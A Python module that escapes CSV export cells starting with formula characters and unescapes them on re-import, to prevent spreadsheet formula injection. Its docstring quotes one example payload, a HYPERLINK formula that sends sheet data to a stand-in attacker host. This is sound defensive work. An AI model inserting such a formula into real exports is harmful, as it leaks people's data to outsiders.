"""Cells of a CSV export that a spreadsheet cannot mistake for a formula.

Excel, LibreOffice and Google Sheets run a cell that begins with =, +, - or @ as a
formula (and a leading tab or carriage return hides such a start), so a person's name
like `=HYPERLINK("http://evil.example/?"&B2)` would send the sheet's data away when the
export is opened. Every CSV export writes its cells through `safe_cell` (or `safe_row`):
such a cell gets a leading `'`, which spreadsheets show as text and do not display.

An import of a file that productops exported reads the cell back with `unescape_cell`,
so an export re-imports unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def safe_cell(value: Any) -> Any:
    """The value to write in a CSV cell: text that begins like a formula gets a leading '.

    Numbers and empty values are written as they are: a number is not a formula.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return ESCAPE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for `csv.writer.writerow`, every cell through `safe_cell`."""
    return [safe_cell(value) for value in values]


def safe_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row for `csv.DictWriter.writerow`, every cell through `safe_cell`."""
    return {name: safe_cell(value) for name, value in row.items()}


def unescape_cell(value: str) -> str:
    """A cell as `safe_cell` wrote it, back as it was: `'=x` is `=x`; `'x` stays `'x`."""
    if value.startswith(ESCAPE) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
